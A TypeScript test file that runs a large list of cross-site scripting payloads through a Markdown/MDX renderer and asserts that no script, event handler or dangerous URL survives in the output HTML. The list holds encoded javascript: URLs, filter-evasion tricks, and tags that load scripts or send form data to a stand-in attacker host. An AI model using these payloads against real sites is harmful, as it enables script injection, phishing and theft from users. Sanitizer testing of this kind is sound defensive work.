// What an attacker would write into a page of a fork: nothing of it may live in the HTML. Each payload is parsed as a
// body, in both dialects, and the HTML is read back the way a browser reads it.

import { parseDocument } from 'htmlparser2';
import { describe, expect, test } from 'vitest';
import { frameHtml } from '../../renderer/code/frame.ts';
import { escapeHtml } from '../../renderer/text/html.ts';
import { parsePage } from '../markdown/markdown-rules.ts';

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#9;script:alert(1)',
  'java&Tab;script:alert(1)',
  'java&#x0A;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '\u0001javascript:alert(1)',
  ' javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'file:///etc/passwd',
  'blob:https://example.org/1',
  'intent:#Intent;scheme=x;end',
  'filesystem:https://example.org/x',
  'view-source:https://example.org',
  'about:blank',
  'ws://example.org',
  '//evil.example.org',
  '/\\evil.example.org',
  '\\\\evil.example.org',
  '/\t/evil.example.org',
];

const inLinks = addresses.flatMap((address) => [`[x](${address})`, `[x](<${address}>)`, `<a href="${address}">x</a>`]);

const others = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example.org/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  'a <script>alert(1)</script> b',
  '- <script>alert(1)</script>',
  '> <script>\n> alert(1)\n> </script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<img src="/a.png" alt="" ONLOAD="alert(1)">',
  '<img src=javascript:alert(1)>',
  '<img srcset="javascript:alert(1) 1x">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '![x](data:text/html,x)',
  '![x](javascript:alert(1))',
  '![" onerror="alert(1)](/a.png)',
  '![x](/a.png "x\\" onerror=\\"alert(1)")',
  '[x](/a "x\\" onclick=\\"alert(1)")',
  '[x](/a\\"onclick=\\"alert(1))',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://frames.example.org.evil.example.org/1"></iframe>',
  '<iframe src="https://frames.example.org@evil.example.org/1"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example.org"><input name="password"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<base href="https://evil.example.org/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.org">',
  '<link rel="stylesheet" href="https://evil.example.org/x.css">',
  '<style>@import "https://evil.example.org/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<div onclick=alert(1) onmouseover="alert(2)">x</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<html><head><script>alert(1)</script></head></html>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title></title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<a href="/a" target="_blank" ping="https://evil.example.org">x</a>',
  '<a id="x" href="/a" onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<q cite="javascript:alert(1)">x</q>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--> <img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?x <img src=x onerror=alert(1)> ?>',
  '</p><img src=x onerror=alert(1)><p>',
  '</div></main></body><script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | `</code><script>alert(1)</script>` |',
  '# <img src=x onerror=alert(1)> {#"onclick="alert(1)}',
  '## x {#x"onclick="alert(1)}',
  '<h2 id="x\' onclick=alert(1) y=\'">x</h2>',
  "<a name='\"><script>alert(1)</script>'></a>",
  '`</code><script>alert(1)</script>`',
  '```"><script>alert(1)</script>\nx\n```',
  '```js title="\\"><script>alert(1)</script>"\n</code></pre><script>alert(1)</script>\n```',
  '~~~yaml:"><img/src=x/onerror=alert(1)>\nx\n~~~',
  '    </code><script>alert(1)</script>',
  '<Note title="&quot;><script>alert(1)</script>">x</Note>',
  '<Any a={`"><script>alert(1)</script>`} dangerouslySetInnerHTML={{__html: "<script>"}} />',
  '<Any __proto__={{ x: 1 }} constructor="y" />',
  "{`<script>alert(1)</script>`} {'<img src=x onerror=alert(1)>'}",
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '[x]: javascript:alert(1)\n\n[x]',
  '<https://example.org/"onclick="alert(1)>',
  '<javascript:alert(1)>',
  'https://example.org/"onmouseover="alert(1)',
  'javascript://example.org/%0aalert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\uE000C0\uE001 \uE000<0\uE001 \uE000I9\uE001',
  '<div class="x\' onclick=\'alert(1)">x</div>',
  '<div className={alert(1)}>x</div>',
  '<div title="&quot; onclick=&quot;alert(1)">x</div>',
];

const payloads = [...inLinks, ...others];
const dropped = new Set(
  'script style iframe object embed base meta link form button svg math template textarea title noscript xmp plaintext body html head video audio'.split(
    ' ',
  ),
);
const labels = {
  copy: 'Copy',
  copied: 'Copied',
  code: 'Code, {lang}',
  diagram: 'Diagram',
  diagramSource: 'Source',
};

/** The body with its code in frames, everything else of its markers gone. */
function htmlOf(body: string, dialect: 'commonmark' | 'mdx'): string {
  const { body: parsed } = parsePage(body, dialect);
  return parsed.html.replace(/\uE000([C<>I])(\d+)\uE001/g, (_, kind, index) => {
    const block = parsed.codes[Number(index)];
    return kind === 'C' && block ? frameHtml(block, block.code.split('\n').map(escapeHtml), labels) : '';
  });
}

interface Element {
  readonly name: string;
  readonly attribs: { readonly [name: string]: string };
  readonly children: readonly unknown[];
}

function elementsOf(nodes: readonly unknown[]): readonly Element[] {
  return (nodes as readonly (Element & { type: string })[])
    .filter((node) => 'attribs' in node)
    .flatMap((element) => [element, ...elementsOf(element.children)]);
}

function live(html: string): readonly string[] {
  return elementsOf(parseDocument(html).children).flatMap(({ name, attribs }) => [
    // The frame's own copy button; content cannot give an element data of this kind.
    ...(dropped.has(name) && attribs['data-act'] === undefined ? [name] : []),
    ...Object.entries(attribs).flatMap(([attribute, value]) => {
      const bad = /^on|^style$|^srcdoc$|^formaction$|^background$|^ping$|^xlink:/.test(attribute);
      const address =
        /^(href|src|srcset|cite|action|data)$/.test(attribute) &&
        !/^(https?:|mailto:|tel:|[/#?]|[^:]*$|[^:/?#]*[/?#])/i.test(value);
      const foreign = /^(href|src)$/.test(attribute) && /^[\s\\/]*[\\/][\s]*[\\/]/.test(value);
      return bad || address || foreign ? [`${name} ${attribute}=${value}`] : [];
    }),
  ]);
}

test('there are enough payloads', () => expect(new Set(payloads).size).toBeGreaterThanOrEqual(120));

describe.each(['commonmark', 'mdx'] as const)('%s', (dialect) => {
  test.each(payloads)('%s', (payload) => {
    expect(live(htmlOf(payload, dialect))).toEqual([]);
  });

  test('all of them in one page leave the text after them alone', () => {
    const html = htmlOf(`${payloads.join('\n\n')}\n\n## The end\n\nLast words.\n`, dialect);
    expect(live(html)).toEqual([]);
  });
});

test('nothing that an attacker opens swallows the paragraph after it', () => {
  const careless = ['<div>', '<b>', '<table><tr><td>', '<details>', '</div>', '<Note>', '<ul><li>', '<a href="/x">'];
  for (const opening of careless) {
    const html = htmlOf(`- ${opening}\n\nAfter.\n`, 'commonmark');
    expect(html, opening).toMatch(/<\/ul>\s*<p>After\.<\/p>\s*$/);
  }
});
